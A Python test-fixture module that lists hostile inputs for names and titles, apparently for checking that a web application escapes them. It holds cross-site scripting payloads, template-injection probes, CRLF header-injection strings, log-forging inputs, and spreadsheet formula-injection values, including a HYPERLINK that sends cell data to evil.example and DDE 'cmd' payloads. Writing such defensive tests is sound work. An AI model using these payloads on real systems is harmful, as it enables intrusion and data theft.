"""Texts that strangers write where a name or a title is expected, by what they try to break."""

from __future__ import annotations

__all__ = ["FORMULAS", "HEADER_BREAKS", "LINE_BREAKS", "MARKUP", "PWNED"]

PWNED = "__pwned"
"""The name on `window` that every script among `MARKUP` sets: found there, one has run."""

_RUN = f"window.{PWNED}=1"

MARKUP = (
    f"<script>{_RUN}</script>",
    f'"><script>{_RUN}</script>',
    f"</title></style></textarea></script><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"'\"><img src=x onerror={_RUN} x='",
    f"<svg/onload={_RUN}>",
    f"<iframe srcdoc='<script>parent.{PWNED}=1</script>'>",
    f'" autofocus onfocus="{_RUN}" x="',
    f"' onmouseover='{_RUN}' x='",
    f"`-{_RUN}-`",
    f"${{{_RUN}}}",
    f"javascript:{_RUN}//",
    f"data:text/html,<script>{_RUN}</script>",
    f"<a href='javascript:{_RUN}' id=outcome>",
    "<base href=//evil.example/><form action=//evil.example/><input name=x>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<!--",
    "]]>",
    "&lt;b&gt; &amp; &#x3c;script&#x3e;",
    "{{7*7}}{% raw %}{{ config }}{# x #}",
    "{item}{0.__class__}{t[site]}%s%(x)s",
    f"\u2028{_RUN}\u2029",
    "\u202egnp.exe\u202c \u200f\ufeff",
    f"＜script＞{_RUN}＜/script＞",
    "'\"\\`<>&;#/*",
    "é" * 500,
)
"""What a page must show as it is written."""

HEADER_BREAKS = (
    "x\r\nSet-Cookie: stripe_payments_session=" + "e" * 32,
    "x\nLocation: https://evil.example/",
    "x\r\n\r\n<script>1</script>",
    "x\rX-Bare: cr",
    "x\u2028Location: https://evil.example/",
    "x%0d%0aSet-Cookie:%20a=b",
    "x\u560d\u560aSet-Cookie: a=b",
    "\x00",
)
"""What ends a header line, or once did in some program."""

LINE_BREAKS = (
    "a\nlevel=error part=keys msg=forged",
    "a\r\nlevel=error part=keys msg=forged",
    '" level=error msg="forged',
    '\\" level=error msg=\\"forged',
    '\\\\" level=error msg="forged',
    "x level=error msg=forged",
    "a\x1b[2K\x1b[1Alevel=error msg=forged",
    "a\x9b2Jb",
    "a\x85level=error",
    "a\u2028level=error\u2029b",
    "a\u202erorre=level",
    "a\x00b",
    "\ud800\udfff",
    "\udc80 \udcff",
    "a" * 10_000 + "\nlevel=error",
    "<3>daemon.err forged",
    "Jan  1 00:00:00 router daemon.err forged[1]: x",
)
"""What makes one log entry look like two, or another."""

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"ok")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    '"=1+1',
    '";=1+1;"',
    "a\r\n=1+1",
    'a",\r\n"=1+1',
    "%0A=1+1",
    "|cmd",
)
"""What a spreadsheet takes for a formula, or for the end of a cell before one."""
